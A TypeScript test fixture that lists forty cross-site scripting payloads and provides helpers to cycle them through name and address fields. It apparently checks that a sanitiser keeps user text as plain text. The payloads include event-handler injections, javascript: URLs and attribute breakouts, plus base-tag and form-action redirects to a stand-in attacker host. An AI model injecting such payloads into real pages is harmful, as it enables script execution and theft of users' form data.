import { isInWords, isPlainText } from '@marque/base';

/** What each of them would set in a page that took it for more than text. */
export const MARK = '__xss';

const mark = `${MARK}=1`;

/** Forty texts that are more than text to a page that lets them: elements, ends of elements and attributes, handlers, addresses, templates, disguises. Each is short enough for a name. */
export const payloads: readonly string[] = [
  `<script>${mark}</script>`,
  `</script><svg onload=${mark}>`,
  `<svg onload=${mark}>`,
  `<svg/onload=${mark}//`,
  `<svg\nonload=${mark}>`,
  `<<svg onload=${mark}>`,
  `<img src=x onerror=${mark}>`,
  `<img src onerror=${mark}//`,
  `<video src onerror=${mark}>`,
  `<audio src onerror=${mark}>`,
  `<body onload=${mark}>`,
  `<b tabindex=1 onfocus=${mark}>`,
  `<details open ontoggle=${mark}`,
  `<style onload=${mark}></style>`,
  `<marquee onstart=${mark}>`,
  `<iframe onload=${mark}>`,
  `<iframe src=javascript:${mark}`,
  `<embed src=javascript:${mark}>`,
  `<a href=javascript:${mark}>x`,
  '<base href=//evil.example>',
  '<link rel=stylesheet href=//e>',
  '<form action=//evil.example>',
  `"><svg onload=${mark}>`,
  `'><svg onload=${mark}>`,
  `</title><svg onload=${mark}>`,
  `</p></div><svg onload=${mark}>`,
  `--><svg onload=${mark}>`,
  `]]><svg onload=${mark}>`,
  `" autofocus onfocus="${mark}`,
  `' autofocus onfocus='${mark}`,
  `\` onmouseover=\`${mark}`,
  `" style="x:y" onclick="${mark}`,
  `javascript:${mark}`,
  `JaVa\tScRiPt:${mark}`,
  `";${mark}//`,
  `{{${mark}}}<%=${mark}%>`,
  `\\u003csvg onload=${mark}>`,
  `%3Csvg onload=${mark}%3E`,
  `&lt;svg onload=${mark}&gt;`,
  `\u202e＜svg onload=${mark}＞`,
];

/** Those that a line of an address may be: it takes no markup and no link. */
export const plain: readonly string[] = payloads.filter(isPlainText);

/** Those that a name or a reason may be: it holds a letter as well. */
export const worded: readonly string[] = payloads.filter(isInWords);

/** The texts from a place on and round again, as many as fit, with spaces between them. */
export function asMany(length: number, from = 0, texts: readonly string[] = payloads): string {
  let joined = '';
  for (const [index] of texts.entries()) {
    const next = texts[(from + index) % texts.length] ?? '';
    if (joined.length + next.length + 1 > length) break;
    joined += joined === '' ? next : ` ${next}`;
  }
  return joined;
}

/** The text at a place; after the last comes the first. */
export function payloadAt(place: number): string {
  return payloads[place % payloads.length] ?? '';
}

/** The same among those that a name may be. */
export function wordedAt(place: number): string {
  return worded[place % worded.length] ?? '';
}
